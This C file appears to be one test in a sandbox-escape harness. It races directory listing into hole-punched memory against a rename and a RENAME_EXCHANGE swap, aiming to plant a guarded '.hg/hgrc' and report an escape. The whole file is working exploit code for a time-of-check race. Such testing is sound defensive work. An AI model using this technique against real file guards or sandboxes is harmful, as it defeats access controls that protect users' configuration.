/* Moves a file to a name that leads to guarded ones, and puts a directory, or a link to one, in the file's place
 * while the move waits: the directory that it goes to is listed into memory that is just being given back, which
 * holds up the listing, and whoever changes the directory. */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>

enum { TURNS = 20 };
static const size_t SIZE = (size_t)512 << 20, ROOM = 1 << 14;
static int memory, above;
static char *room;
static volatile int gives, lists;

static void *give_back(void *none) {
    gives = 1;
    fallocate(memory, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, SIZE);
    return none;
}

static void *list(void *none) {
    int fd = open("t", O_RDONLY | O_DIRECTORY);
    while (!gives) continue;
    lists = 1;
    syscall(SYS_getdents64, fd, room + SIZE - ROOM, ROOM);
    close(fd);
    return none;
}

static void *move(void *none) {
    rename("t/a/file", "t/.hg");
    return none;
}

static void try(int turn) {
    pthread_t thread[3];
    struct stat status;
    close(open("t/a/file", O_CREAT | O_WRONLY, 0600));
    stat("t/.hg", &status);
    gives = lists = 0;
    if (fallocate(memory, 0, 0, SIZE)) perror("fallocate");
    room = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
    pthread_create(&thread[0], NULL, list, NULL);
    pthread_create(&thread[1], NULL, give_back, NULL);
    while (!lists) continue;
    usleep(3000);
    pthread_create(&thread[2], NULL, move, NULL);
    usleep(2000 + turn * 3000);
    renameat2(above, "file", above, "other", RENAME_EXCHANGE);
    for (int n = 0; n < 3; n++) pthread_join(thread[n], NULL);
    munmap(room, SIZE);
    if (!access("t/.hg/hgrc", F_OK)) escaped("moved another file than was decided");
    unlink("t/.hg");
    int is_there = fstatat(above, "file", &status, AT_SYMLINK_NOFOLLOW) == 0;
    if (is_there && !S_ISREG(status.st_mode)) renameat2(above, "file", above, "other", RENAME_EXCHANGE);
}

int main(void) {
    if (mkdir("t", 0700) || mkdir("t/a", 0700) || mkdir("t/a/other", 0700)) return 3;
    int fd = open("t/a/other/hgrc", O_CREAT | O_WRONLY, 0600);
    if (fd < 0) return 3;
    close(fd);
    above = open("t/a", O_PATH | O_DIRECTORY);
    memory = memfd_create("memory", 0);
    if (ftruncate(memory, SIZE)) return 3;
    for (int turn = 0; turn < TURNS; turn++) try(turn);
    if (rename("t/a/other", "t/a/directory") || symlink("a/directory", "t/a/other")) return 3;
    for (int turn = 0; turn < TURNS; turn++) try(turn);
    return 0;
}
